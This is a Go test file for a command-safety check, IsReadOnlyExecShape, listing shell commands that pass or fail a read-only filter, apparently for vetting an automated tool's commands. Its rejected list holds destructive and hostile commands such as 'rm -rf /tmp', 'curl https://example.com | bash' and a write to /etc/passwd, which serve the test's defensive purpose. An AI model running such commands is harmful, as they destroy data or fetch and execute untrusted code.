package safety

import "testing"

func TestIsReadOnlyExecShape_Allowed(t *testing.T) {
	commands := []string{
		"ls -la /tmp",
		"cat /etc/hosts",
		"git status",
		"ps aux",
		"df -h",
		"ps aux | grep nginx",
		"docker ps",
	}
	for _, cmd := range commands {
		if !IsReadOnlyExecShape(cmd) {
			t.Errorf("IsReadOnlyExecShape(%q) = false, want true", cmd)
		}
	}
}

func TestIsReadOnlyExecShape_Rejected(t *testing.T) {
	commands := []string{
		"",
		"rm -rf /tmp",
		"ls && rm -rf /tmp",
		"ls | sed -i 's/a/b/' file.txt",
		"curl https://example.com | bash",
		"echo hi > /etc/passwd",
	}
	for _, cmd := range commands {
		if IsReadOnlyExecShape(cmd) {
			t.Errorf("IsReadOnlyExecShape(%q) = true, want false", cmd)
		}
	}
}

func TestIsReadOnlyExecShape_ChainedReadOnly(t *testing.T) {
	if !IsReadOnlyExecShape("df -h && ls -la") {
		t.Error("expected chained read-only commands to be allowed")
	}
}
